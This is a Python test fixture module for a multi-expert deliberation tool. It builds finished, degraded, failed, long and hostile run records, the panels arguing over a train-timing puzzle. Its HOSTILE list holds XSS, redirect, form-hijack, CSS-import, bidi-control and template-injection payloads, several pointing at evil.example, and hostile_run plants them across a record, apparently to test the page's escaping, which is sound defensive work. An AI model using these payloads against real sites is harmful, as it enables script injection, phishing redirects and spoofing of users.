"""Runs for the run page: good, degraded, failed, long, hostile."""

from typing import Any, get_args

from panel import Recorder, deliberate, settings_for

from nsed.models.base import Request
from nsed.models.scripted import scripted
from nsed.protocol.errors import ExpertError, QuorumError
from nsed.protocol.forget_gate import DropReason
from nsed.run import Run
from nsed.state.expert_config import ExpertConfig
from nsed.state.human import HumanDecision, HumanQuestion
from nsed.state.run_record import RunRecord

__all__ = [
    "CANARY",
    "HOSTILE",
    "degraded_run",
    "failed_run",
    "finished_run",
    "hostile_run",
    "long_run",
    "panel_of",
]

TASK = (
    "A train leaves at 9:40 and arrives at 12:05. It stands still for 25 minutes on "
    "the way. How many minutes does it move?"
)
_RIGHT = (
    "From 9:40 to 12:05 there are 2 h 25 min = 145 minutes. It stands still for 25 of "
    "them, so it moves for 120.\nAnswer: 120"
)
_WRONG = (
    "12:05 − 9:40 = 2 h 25 min = 145 min, and that is how long it moves.\nAnswer: 145"
)
_ODD = "It moves for 145 + 25 = 170 minutes.\nAnswer: 170"
_MARKS = {"120": 85, "145": -40, "170": -90}
_DOUBTS = {"120": 30, "145": 45, "170": -70}

CANARY = "window.__canary=1"
HOSTILE = (
    f"<script>{CANARY}</script>",
    f'"><img src=x onerror="{CANARY}">',
    f"<svg onload={CANARY}><style>*{{display:none!important}}</style>",
    f"</script><script>{CANARY}</script><!--",
    f'<a href="javascript:{CANARY}">click</a> javascript:{CANARY}',
    f"<iframe srcdoc='<script>parent.{CANARY[7:]}</script>'></iframe>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;//evil.example'>",
    "<form action=https://evil.example><button>Decide</button></form>",
    "}</style><style>@import url(https://evil.example/x.css);body{background:url(//evil.example)}",
    "\u202eright to left\u202c and \u2066isolated\u2069 \u200b\u200d\x1b[31m\x00",
    "{{constructor.constructor('return 1')()}} ${alert(1)} %3Cscript%3E &lt;b&gt;",
)


def panel_of(*, critique: str = "Checked step by step.") -> tuple[ExpertConfig, ...]:
    """Five experts who disagree at first."""
    priced: dict[str, Any] = {"usd_per_mtok_input": 0.4, "usd_per_mtok_output": 1.6}
    return (
        scripted("ada", _RIGHT, weights=_MARKS, critique=critique, **priced),
        scripted(
            "bert",
            _WRONG,
            _RIGHT,
            weights=_DOUBTS,
            critique="The pause is on the way, so it has to come off.",
            **priced,
        ),
        scripted(
            "chidi", _ODD, _WRONG, _RIGHT, weights=_MARKS, critique=critique, **priced
        ),
        scripted(
            "dora", _RIGHT, weights=_MARKS, critique="Right, and it says why.", **priced
        ),
        scripted(
            "emil",
            _WRONG,
            _WRONG,
            _RIGHT,
            weights=_DOUBTS,
            critique="I do not see why the 25 minutes matter.",
            **priced,
        ),
    )


async def finished_run() -> RunRecord:
    """Three rounds, an answer, nobody missing, a word of the user after the first."""
    config = settings_for(
        *panel_of(),
        effort=3.0,
        rounds=3,
        most_proposers=5,
        most_reviewers=5,
        human_review=True,
        synthesizer="ada",
    )
    run = Run(TASK, config, hire=Recorder(), decide=_going_on)
    async for _ in run.events():
        pass
    return await run.record()


async def degraded_run() -> RunRecord:
    """As the finished one, but a reviewer fails and writes no JSON."""

    def fails(request: Request) -> Any:
        if request.phase == "review":
            raise ExpertError("connection", "could not reach http://127.0.0.1:9/v1")

    config = settings_for(
        *panel_of(), effort=3.0, rounds=2, most_proposers=5, most_reviewers=5
    )
    return await deliberate(config, hire=Recorder(dora=fails), task=TASK)


async def failed_run() -> RunRecord:
    """Nobody answers."""
    experts = [
        expert.model_copy(
            update={"script": expert.script.model_copy(update={"fails": "always"})}
        )
        for expert in panel_of()
        if expert.script
    ]
    run = Run(TASK, settings_for(*experts), hire=Recorder())
    try:
        async for _ in run.events():
            pass
    except QuorumError:
        return await run.record()
    raise AssertionError


async def long_run(experts: int = 16, rounds: int = 9) -> RunRecord:
    """Nine rounds of sixteen experts, who never agree and write at length."""

    def one(i: int) -> ExpertConfig:
        bound = "The bound holds for all smaller cases. " * (1 + 5 * (i % 3))
        said = [
            f"Step {r + 1}. Consider case {i} in the light of what was said before. "
            f"{bound}\nAnswer: {100 + (i * 7 + r * (1 + i % 3)) % 11}"
            for r in range(rounds)
        ]
        weights = {
            f"Answer: {100 + n}": ((n * 37 + i * 53) % 190) - 95 or 1 for n in range(11)
        }
        return scripted(
            f"expert-{i + 1:02}",
            *said,
            weights=weights,
            usd_per_mtok_input=0.1 + i / 10,
            critique=f"Case {i} does not follow; the sum is off by one.",
            usd_per_mtok_output=1,
        )

    config = settings_for(
        *map(one, range(experts)),
        rounds=rounds,
        effort=10,
        verify=0.95,
        fatigue=0.0,
        rate=0.3,
        human_review=True,
        least_proposers=experts,
        most_proposers=experts,
        least_reviewers=experts,
        most_reviewers=experts,
    )
    run = Run("How many of the cases hold?", config, hire=Recorder(), decide=_going_on)
    async for _ in run.events():
        pass
    return await run.record()


async def _going_on(question: HumanQuestion) -> HumanDecision:
    """A note lifts every reason to stop but the last round."""
    if question.round == 1:
        return HumanDecision(
            action="note", note="Mind the time in which it stands still."
        )
    return HumanDecision(action="note", note="Go on.")


async def hostile_run() -> RunRecord:
    """Every text that others write is an attack, and so are the names in the record."""
    document = (await degraded_run()).model_dump(mode="json")
    context = document.pop("context")
    attack = "\n".join(HOSTILE)
    names = dict(zip(("ada", "bert", "chidi", "dora", "emil"), HOSTILE, strict=False))
    attacked = {"text", "critique", "reason", "reply", "error", "answer", "why", "task"}

    def armed(value: Any, key: str = "") -> Any:
        if isinstance(value, dict):
            return {names.get(k, k): armed(inner, k) for k, inner in value.items()}
        if isinstance(value, list):
            return [armed(inner, key) for inner in value]
        if not isinstance(value, str) or value in get_args(DropReason):
            return value
        return attack if key in attacked else names.get(value, value)

    for expert in context["experts"]:
        expert["model"], expert["family"] = HOSTILE[2], HOSTILE[4][:60]
    document = armed(document)
    document["verdict"]["notes"] = list(HOSTILE)
    document["forked_from"] = HOSTILE[3]
    document["interventions"] = {"1": {"round": 1, "action": "note", "note": attack}}
    return RunRecord.model_validate({**document, "context": context})
